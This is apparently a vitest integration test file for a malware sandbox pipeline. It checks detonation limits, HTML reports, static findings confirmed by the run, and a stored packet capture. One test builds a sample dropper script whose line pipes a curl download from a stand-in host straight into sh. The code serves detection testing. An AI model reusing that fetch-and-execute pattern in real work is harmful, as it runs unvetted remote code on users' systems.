import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { GetObjectCommand } from '@aws-sdk/client-s3';
import { DetonationReportSchema } from '../lambdas/core/contracts/detonation-report';
import { DETAIL_TYPE_VERDICT, SampleVerdictDetailSchema } from '../lambdas/core/contracts/pipeline';
import { LocalPipeline } from '../local/runtime';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { keepHtmlReports, storedHtmlReport, verdictDocument } from '../cli/local-analysis';
import { formatOutcomes } from '../cli/format';

describe('the detonation engine through the local state machine', () => {
  let pipeline: LocalPipeline;
  beforeAll(async () => {
    pipeline = await LocalPipeline.start({
      virtualTime: true,
      cachePlan: false,
      config: { settings: { detonation: { agent: { memory_limit: 256, timeout: 20 } } } },
    });
  });
  afterAll(async () => pipeline?.stop());

  it('detonates a shell sample with the configured agent limits and publishes a link to the HTML report', async () => {
    const run = await pipeline.run(await pipeline.upload({ path: 'samples/behaviors/execution.sh' }));
    expect(run.status).toBe('SUCCEEDED');
    expect(run.transitions.map((t) => t.name)).toEqual(
      expect.arrayContaining(['EngineKind', 'PrepareDetonation', 'RunDetonation', 'CollectDetonation']),
    );
    const detail = SampleVerdictDetailSchema.parse(pipeline.events(DETAIL_TYPE_VERDICT).at(-1)?.detail);
    const engine = detail.engines.find((e) => e.engine === 'detonation');
    expect(engine).toMatchObject({ engine: 'detonation', status: 'completed' });
    expect(detail.engines[0]).toMatchObject({ engine: 'static', status: 'completed' });

    // The agent ran with the configuration as written: 256 (MiB) and a 20 s deadline.
    const deps = pipeline.deps('CollectDetonationFn');
    const stored = await deps.clients.s3.send(
      new GetObjectCommand({ Bucket: deps.config.reportsBucket, Key: engine?.reportKey ?? '' }),
    );
    const report = DetonationReportSchema.parse(JSON.parse((await stored.Body?.transformToString()) ?? ''));
    expect(report.limits).toMatchObject({ memoryBytes: 256 * 1024 * 1024, timeoutSeconds: 20 });
    expect(report.behavior.execution.length).toBeGreaterThan(0);

    // The event links the self-contained HTML report.
    expect(detail.reportUrl).toMatch(/reports\/[0-9a-f]{64}\/report\.html\?/);
    const html = await (await fetch(detail.reportUrl ?? '')).text();
    expect(html).toContain('Content-Security-Policy');
    expect(html).toContain(detail.sha256);
  }, 120_000);

  it('shows which static findings the detonation confirmed: a download URL in the script that the run looked up', async () => {
    const script = [
      '#!/bin/sh',
      '# sandtrap test: fetch a second stage from a name that only the fake network answers',
      'curl -fsS http://stage2.sandtrap-test.example/next.sh | sh',
      '',
    ].join('\n');
    const run = await pipeline.run(await pipeline.upload({ key: 'correlation/dropper.sh', body: script }));
    expect(run.status).toBe('SUCCEEDED');
    const detail = SampleVerdictDetailSchema.parse(pipeline.events(DETAIL_TYPE_VERDICT).at(-1)?.detail);
    expect(detail.engines.map((e) => [e.engine, e.status])).toEqual([
      ['static', 'completed'],
      ['detonation', 'completed'],
    ]);
    const document = await verdictDocument(pipeline, detail);
    const downloadExec = document.static?.findings.find((f) => f.id === 'script.download-exec');
    expect(downloadExec).toBeDefined();
    const confirmed = document.static?.confirmed?.find((c) => c.findingId === 'script.download-exec');
    expect(confirmed?.how.join(' ')).toMatch(/stage2\.sandtrap-test\.example/);
    // The stored HTML report marks it, and the CLI prints it.
    const html = await storedHtmlReport(pipeline, detail.sha256);
    expect(html).toContain('Confirmed by the detonation:');
    expect(formatOutcomes([{ file: 'dropper.sh', ok: true, document }])).toContain('confirmed by the detonation:');

    // The packet capture is stored beside the detonation report (the local S3 presigns as AWS does),
    // referenced by key from the document, and holds the sample's request as the sample sent it.
    const result = document.engineResults.find((e) => e.engine === 'detonation');
    expect(result?.captureKey).toBe(result?.reportKey?.replace(/\.json$/, '.pcap'));
    const deps = pipeline.deps('CollectDetonationFn');
    const stored = await deps.clients.s3.send(
      new GetObjectCommand({ Bucket: deps.config.reportsBucket, Key: result?.captureKey ?? '' }),
    );
    const pcap = Buffer.from((await stored.Body?.transformToByteArray()) ?? []);
    expect(pcap.readUInt32LE(0)).toBe(0xa1b2c3d4);
    expect(pcap.toString('latin1')).toMatch(/GET \/next\.sh HTTP\/1\.1\r\nHost: stage2\.sandtrap-test\.example\r\n/);
    expect(html).toContain(`${result?.captureKey?.split('/').pop()}</a>`);
    // A local analysis keeps the capture where the kept HTML report's link points.
    const dir = mkdtempSync(join(tmpdir(), 'sandtrap-kept-'));
    try {
      const kept = await keepHtmlReports(pipeline, [{ file: 'dropper.sh', ok: true, document }], dir);
      const href = /<a href="([^"]+\.pcap)" download>/.exec(readFileSync(kept[0] ?? '', 'utf8'))?.[1];
      expect(href).toMatch(/^detonation\/[^/]+\.pcap$/);
      expect(kept).toContain(join(dir, href ?? ''));
      expect(readFileSync(join(dir, href ?? ''))).toEqual(pcap);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  }, 120_000);
});
